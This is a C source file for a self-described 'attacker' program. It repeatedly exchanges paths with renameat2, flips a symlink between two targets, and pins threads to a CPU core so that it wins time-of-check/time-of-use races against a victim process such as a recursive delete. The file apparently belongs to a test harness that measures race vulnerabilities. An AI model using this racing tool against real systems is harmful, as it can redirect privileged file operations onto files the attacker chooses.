/*
 * The attacker: changes what a name leads to, as fast as it can, on a core of its own.
 *
 *   swap exchange CORE DIR A B [A B …]    exchanges each A with its B in DIR in one step, in turn, again and again
 *   swap relink   CORE DIR LINK IN OUT    aims LINK at IN and OUT by turns
 *   swap pin      CORE PID                puts every thread of PID on that core, and ends
 *
 * It holds the directory of each A, so it goes on in one that gets another name (as a recursive removal does it).
 * Prints `ready` once it has begun; on SIGTERM the number of changes. It does not outlive its parent.
 * In C, since one that shares the victim's speed, or its core, finds almost nothing: 500 in a million against 239,400.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static volatile sig_atomic_t stopped;
static void stop(int signal) {
  (void)signal;
  stopped = 1;
}

static int settle(pid_t pid, int core) {
  cpu_set_t set;
  CPU_ZERO(&set);
  CPU_SET(core, &set);
  return sched_setaffinity(pid, sizeof set, &set);
}

static int pin(const char *pid, int core) {
  char tasks[64];
  snprintf(tasks, sizeof tasks, "/proc/%s/task", pid);
  DIR *threads = opendir(tasks);
  if (!threads) return 1;
  for (struct dirent *one; (one = readdir(threads));)
    if (one->d_name[0] != '.') settle(atoi(one->d_name), core);
  closedir(threads);
  return 0;
}

struct pair {
  const char *a, *b, *name;
  int parent;
};

/* Where A is, as it is now: the directory of that name may be another one than it was. */
static void hold(struct pair *pair) {
  char parent[4096];
  size_t length = (size_t)(pair->name - pair->a);
  snprintf(parent, sizeof parent, "%.*s.", (int)length, pair->a);
  if (pair->parent >= 0) close(pair->parent);
  pair->parent = open(parent, O_PATH | O_DIRECTORY | O_CLOEXEC);
}

static int exchange(struct pair *pair) {
  return (int)syscall(SYS_renameat2, pair->parent, pair->name, AT_FDCWD, pair->b, RENAME_EXCHANGE);
}

static int fail(const char *what) {
  perror(what);
  return 1;
}

int main(int argc, char **argv) {
  if (argc < 4) return 2;
  const char *how = argv[1];
  int core = atoi(argv[2]);
  if (!strcmp(how, "pin")) return pin(argv[3], core);
  int relink = !strcmp(how, "relink");
  int count = (argc - 4) / 2;
  if (relink ? argc != 7 : argc < 6 || argc % 2) return 2;
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  signal(SIGTERM, stop);
  if (core >= 0) settle(0, core);
  if (chdir(argv[3])) return fail("chdir");

  struct pair *pairs = calloc((size_t)count, sizeof *pairs);
  if (!pairs) return fail("calloc");
  for (int i = 0; i < count && !relink; i++) {
    const char *slash = strrchr(argv[4 + 2 * i], '/');
    pairs[i] = (struct pair){argv[4 + 2 * i], argv[5 + 2 * i], slash ? slash + 1 : argv[4 + 2 * i], -1};
    hold(&pairs[i]);
  }

  unsigned long changes = 0;
  for (; !stopped; changes++) {
    if (relink) {
      if (symlink(argv[5 + changes % 2], "aiming")) return fail("symlink");
      if (rename("aiming", argv[4])) return fail("rename");
    } else if (exchange(&pairs[changes % (unsigned long)count])) {
      /* The victim may have one of them under way: its own rename or removal. */
      if (errno != ENOENT && errno != EBUSY && errno != EBADF) return fail("renameat2");
      if (errno != EBUSY) hold(&pairs[changes % (unsigned long)count]);
    }
    if (changes == 100 && write(1, "ready\n", 6) != 6) return 1;
  }
  printf("%lu\n", changes);
  return 0;
}
